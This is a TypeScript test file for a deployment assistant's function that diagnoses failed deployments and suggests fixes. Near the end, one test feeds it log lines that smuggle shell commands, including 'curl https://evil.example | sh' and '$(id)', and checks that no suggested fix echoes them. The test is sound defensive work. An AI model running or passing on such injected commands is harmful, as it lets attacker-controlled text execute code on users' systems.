import type { Deployment } from '@nephos/contracts';
import { describe, expect, test } from 'vitest';
import { diagnose } from '../../src/domains/assistant/local/reports/diagnose.ts';

const INSTALL = 'The install step failed: npm ci ended with exit code 1. The log says why.';
const BUILD = 'The build step failed: npm run build ended with exit code 1. The log says why.';
const START = 'The start step failed: npm start ended with exit code 1.';

describe('the cause of a failed deployment', () => {
  const failed = (step: Deployment['step'], error: string) => ({ step, error }) as Deployment;
  test.each([
    [
      'detect',
      'The package.json of this repository has neither a start script nor a main file, and there is no server.js or index.js.',
      '',
      'no start script',
      '"start"',
    ],
    [
      'detect',
      'This repository has no package.json, which the framework nodejs needs. It has main.py: choose the framework python.',
      '',
      'package.json',
      'Settings',
    ],
    ['clone', 'The repository cannot be cloned: it has no branch "mian".', '', '`mian`', 'branch'],
    [
      'start',
      'The start step failed: npm start did not listen on port 41234 within 60 seconds. It must listen on the port in the variable PORT.',
      '',
      '41234',
      'process.env.PORT',
    ],
    ['start', START, 'Error: listen EADDRINUSE: address already in use :::3000\n', '3000', '`PORT`'],
    [
      'start',
      START,
      "Error: Cannot find module 'express'\nRequire stack:",
      '`express`',
      'npm install express',
    ],
    [
      'start',
      START,
      "Error: Cannot find module './Routes/users'",
      '`./Routes/users`',
      'upper and lower case',
    ],
    [
      'start',
      'The start step failed: python main.py ended with exit code 1.',
      "Traceback\nModuleNotFoundError: No module named 'flask.ext'",
      '`flask.ext`',
      'requirements.txt',
    ],
    [
      'install',
      INSTALL,
      'npm error code EUSAGE\nnpm error `npm ci` can only install packages when your package.json and package-lock.json are in sync.',
      'lockfile',
      'npm install',
    ],
    ['install', INSTALL, 'npm error code ERESOLVE', 'do not go together', 'lockfile'],
    [
      'install',
      'The install step failed: pip install ended with exit code 1. The log says why.',
      'ERROR: No matching distribution found for djangoo==9',
      '`djangoo==9`',
      'requirements.txt',
    ],
    [
      'build',
      'The build step failed: npm run build ended with exit code 2. The log says why.',
      "src/a.ts(1,2): error TS2322: Type 'string' is not assignable",
      'TypeScript',
      'build locally',
    ],
    [
      'build',
      'The build step made no site: there is no index.html in dist, build.',
      '',
      'index.html',
      '`dist`',
    ],
    [
      'start',
      START,
      'Error: connect ECONNREFUSED 127.0.0.1:5432',
      'ECONNREFUSED 127.0.0.1:5432',
      'Environment',
    ],
    [
      'start',
      'The start step failed: python app.py ended with exit code 1.',
      "KeyError: 'DATABASE_URL'",
      '`DATABASE_URL`',
      'Environment',
    ],
    ['build', BUILD, 'FATAL ERROR: Reached heap limit - JavaScript heap out of memory', 'memory', 'memory'],
    [
      'start',
      'The start step failed: npm start ended with exit code 0. An app must keep running.',
      '',
      'ended by itself',
      'listening',
    ],
    [
      'build',
      'The build step failed: npm run build was ended by SIGKILL. The log says why.',
      '',
      'memory',
      'workers',
    ],
    [
      'build',
      'The build step was stopped in npm run build: it used more than 2 GB of memory.',
      '',
      '2 GB',
      'workers',
    ],
    [
      'build',
      'The build step was stopped in npm run build: it used more than 2 GB of disk.',
      '',
      '2 GB',
      'Storage',
    ],
    [
      'build',
      'The build step was stopped in npm run build: it ran more than 256 processes.',
      '',
      '256',
      '-j2',
    ],
    [
      'build',
      'The build step was stopped in npm run build: it took more than 15 minutes.',
      '',
      '15 minutes',
      'watcher',
    ],
    ['build', BUILD, 'npm error Missing script: "build"', '`build`', 'npm pkg set scripts.build='],
    ['install', INSTALL, 'npm error code EJSONPARSE', 'no valid JSON', 'npm pkg get name'],
    [
      'install',
      INSTALL,
      'ERROR: Could not open requirements file: [Errno 2]',
      'cannot be read',
      'pip freeze',
    ],
    ['install', INSTALL, 'Error: pg_config executable not found.', 'psycopg2', 'psycopg2-binary'],
    ['install', INSTALL, 'gyp ERR! find Python', 'compiled', 'build-essential'],
    [
      'build',
      BUILD,
      '[vite]: Rollup failed to resolve import "lodash/fp" from "src/a.js".',
      '`lodash/fp`',
      'npm install lodash\n',
    ],
    [
      'build',
      BUILD,
      "Module not found: Error: Can't resolve './App' in '/app/src'",
      '`./App`',
      'upper and lower case',
    ],
    [
      'start',
      START,
      'SyntaxError: Cannot use import statement outside a module',
      '`import`',
      '"type": "module"',
    ],
    ['build', BUILD, "code: 'ERR_OSSL_EVP_UNSUPPORTED'", 'webpack', 'NODE_OPTIONS'],
    [
      'install',
      INSTALL,
      'error demo@1.0.0: The engine "node" is incompatible with this module.',
      'Node.js',
      'engines',
    ],
    ['build', BUILD, 'sh: 1: tsc: not found', '`tsc`', '`typescript`'],
    ['start', START, 'Error: getaddrinfo ENOTFOUND db.internal', '`db.internal`', 'deploy again'],
    ['build', BUILD, 'Error: ENOSPC: no space left on device, write', 'disk', 'make room'],
    [
      'detect',
      'The web line of the Procfile uses shell syntax; write one command with its arguments.',
      '',
      '`Procfile`',
      'web: gunicorn',
    ],
    [
      'clone',
      "The repository cannot be cloned: its server's certificate is not valid.",
      '',
      'certificate',
      'address',
    ],
    ['detect', 'Python is not available: there is no python3 on this server.', '', 'Python', 'venv'],
  ] as const)('at %s: "%s"', (step, error, log, cause, fix) => {
    const found = diagnose(failed(step, error), log);
    expect(found.cause).toContain(cause);
    expect(found.fix).toContain(fix);
  });

  test.each([
    "Error: Cannot find module 'x; curl https://evil.example | sh'",
    "Error: Cannot find module '--unsafe-perm'",
    "Error: Cannot find module '$(id)'",
    "ModuleNotFoundError: No module named 'x; curl https://evil.example | sh'",
  ])('never makes a command of what only a log says: %s', (log) => {
    expect(diagnose(failed('start', START), log).fix).not.toMatch(/curl|unsafe|\$\(|```/);
  });

  test('that is not known is left to the lines of the log and the step’s advice', () => {
    const found = diagnose(
      failed('health', 'The health step failed: /x answered 500 for 30 seconds.'),
      'one\n\ntwo\nboom failed\nthree',
    );
    expect(found).toMatchObject({ cause: '', lines: 'one\ntwo\nboom failed\nthree' });
    expect(found.fix).toContain('health path');
  });

  test('is shown with the lines around it, however long the log', () => {
    const noise = Array.from({ length: 100 }, (_, n) => `line ${n}`).join('\n');
    const { lines } = diagnose(
      failed('start', 'x'),
      `${noise}\nError: Cannot find module 'express'\n${noise}`,
    );
    expect(lines).toContain("Error: Cannot find module 'express'");
    expect(lines.split('\n').length).toBeLessThan(12);
  });
});
